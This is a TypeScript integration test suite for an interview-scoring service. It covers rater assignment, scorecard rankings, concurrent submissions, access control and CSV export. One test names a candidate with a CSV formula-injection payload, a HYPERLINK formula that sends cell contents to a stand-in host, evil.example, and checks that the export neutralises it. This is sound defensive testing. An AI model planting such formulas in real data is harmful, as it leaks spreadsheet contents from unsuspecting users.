import request from 'supertest';
import type { RankingPage, RaterAssignment, ScorecardView } from '@rubricon/contracts';
import { scheduleInterview } from '../factories/interviews';
import { fullSheet, getCsv, getSheet, scoreAndSubmit } from '../factories/scoring';
import { createStaff } from '../factories/staff';
import { databaseKinds } from '../support/databases';
import { connectRoom, eventually } from '../support/interview-client';
import { useServerSuite } from '../support/server-suite';
import { ADMIN, loginAs } from '../support/test-app';

type Staff = Awaited<ReturnType<typeof createStaff>>;

describe.each(databaseKinds().map((k) => [k.name, k] as const))('scoring live interviews on %s', (_name, kind) => {
  const suite = useServerSuite(kind, 'hr');
  const as = (token: string) => ({ Authorization: `Bearer ${token}` });
  let a: Staff;
  let b: Staff;

  beforeAll(async () => {
    const admin = await loginAs(suite.server.url, ADMIN.email, ADMIN.password);
    a = await createStaff(suite.server.url, admin, 'interviewer');
    b = await createStaff(suite.server.url, admin, 'interviewer');
  });

  async function endedInterview(candidateName?: string): Promise<{ id: string; postingId: string }> {
    const url = suite.server.url;
    const overrides = candidateName
      ? {
          candidate: {
            name: candidateName,
            email: `x-${Date.now()}-${Math.random().toString(36).slice(2)}@example.com`,
          },
        }
      : {};
    const { interview } = await scheduleInterview(url, suite.token, [a.id, b.id], overrides);
    const staff = await connectRoom(url, { accessToken: a.token, interviewId: interview.id });
    try {
      await staff.ask('interview:start', {});
      await staff.ask('interview:end', {});
      await eventually(() => staff.state().status === 'ended');
    } finally {
      staff.close();
    }
    return { id: interview.id, postingId: interview.postingId };
  }

  it('makes the panel the raters; they score once the interview has ended, and the scorecard shows it', async () => {
    const url = suite.server.url;
    const { interview } = await scheduleInterview(url, suite.token, [a.id, b.id]);
    const raters = (
      await request(url).get(`/api/scoring/subjects/interview/${interview.id}/raters`).set(as(suite.token)).expect(200)
    ).body as RaterAssignment[];
    expect(raters.map((r) => r.rater.id).sort()).toEqual([a.id, b.id].sort());
    const early = await request(url)
      .get(`/api/scoring/subjects/interview/${interview.id}/sheet`)
      .set(as(a.token))
      .expect(409);
    expect(early.body.code).toBe('not-ready-to-score');

    const ended = await endedInterview();
    const sheet = await getSheet(url, a.token, 'interview', ended.id);
    expect(sheet.blind).toBe(false);
    expect(sheet.questions.every((q) => q.answer === null && q.rubric.every((c) => c.autoLevel === null))).toBe(true);
    await scoreAndSubmit(url, a.token, 'interview', ended.id, () => 4, 'yes');
    await scoreAndSubmit(url, b.token, 'interview', ended.id, () => 2, 'no');
    const ranking = (
      await request(url).get(`/api/scorecards/postings/${ended.postingId}/ranking`).set(as(suite.token)).expect(200)
    ).body as RankingPage;
    const row = ranking.items.find((r) => r.sources.includes('interview') && r.ratersSubmitted === 2)!;
    expect(row).toMatchObject({ total: 3, percent: 50, recommendations: { yes: 1, no: 1 }, flags: ['spread'] });
    const card = (
      await request(url)
        .get(`/api/scorecards/postings/${ended.postingId}/candidates/${row.candidate.id}`)
        .set(as(suite.token))
        .expect(200)
    ).body as ScorecardView;
    expect(card.raters.map((r) => r.total).sort()).toEqual([2, 4]);
    expect(card.integrity).toEqual([]);
  });

  it('neutralises formula-leading cells in the CSV export (a candidate named like a formula)', async () => {
    const url = suite.server.url;
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const ended = await endedInterview(hostile);
    await scoreAndSubmit(url, a.token, 'interview', ended.id, () => 3);
    const csv = (
      await getCsv(url, suite.token, `/api/scorecards/postings/${ended.postingId}/ranking.csv?search=HYPERLINK`)
    ).text;
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toHaveLength(3); // header, the one candidate, the final empty string after the last CRLF
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(lines[1]).not.toMatch(/(^|,)=/);
  });

  it('keeps the scorecard right when two raters submit at the same moment', async () => {
    const url = suite.server.url;
    const ended = await endedInterview();
    for (const [rater, level] of [
      [a, 5],
      [b, 3],
    ] as const) {
      const sheet = await getSheet(url, rater.token, 'interview', ended.id);
      await request(url)
        .put(`/api/scoring/subjects/interview/${ended.id}/sheet`)
        .set(as(rater.token))
        .send(fullSheet(sheet, () => level))
        .expect(200);
    }
    // The posting's agreement is kept between requests; a submission must bring it up to date.
    const agreementUnits = async () =>
      (await request(url).get(`/api/scorecards/postings/${ended.postingId}/agreement`).set(as(suite.token)).expect(200))
        .body.overall.units as number;
    const unitsBefore = await agreementUnits();
    expect(await agreementUnits()).toBe(unitsBefore);
    await Promise.all(
      [a, b].map((rater) =>
        request(url).post(`/api/scoring/subjects/interview/${ended.id}/sheet/submit`).set(as(rater.token)).expect(200),
      ),
    );
    const raters = (
      await request(url).get(`/api/scoring/subjects/interview/${ended.id}/raters`).set(as(suite.token)).expect(200)
    ).body as RaterAssignment[];
    const ranking = (
      await request(url)
        .get(`/api/scorecards/postings/${ended.postingId}/ranking?limit=100`)
        .set(as(suite.token))
        .expect(200)
    ).body as RankingPage;
    const rows = ranking.items.filter((r) => r.total === 4 && r.ratersSubmitted === 2);
    expect(raters.every((r) => r.status === 'submitted')).toBe(true);
    expect(rows.length).toBeGreaterThanOrEqual(1);
    expect(await agreementUnits()).toBeGreaterThan(unitsBefore);
  });

  it('never lets a candidate link reach scoring or scorecards', async () => {
    const url = suite.server.url;
    const { link } = await scheduleInterview(url, suite.token, [a.id]);
    const token = link.slice(link.lastIndexOf('/live/') + '/live/'.length);
    await request(url).get('/api/scoring/sheets').set(as(token)).expect(401);
    await request(url).get('/api/scoring/rater-options').expect(401);
  });
});
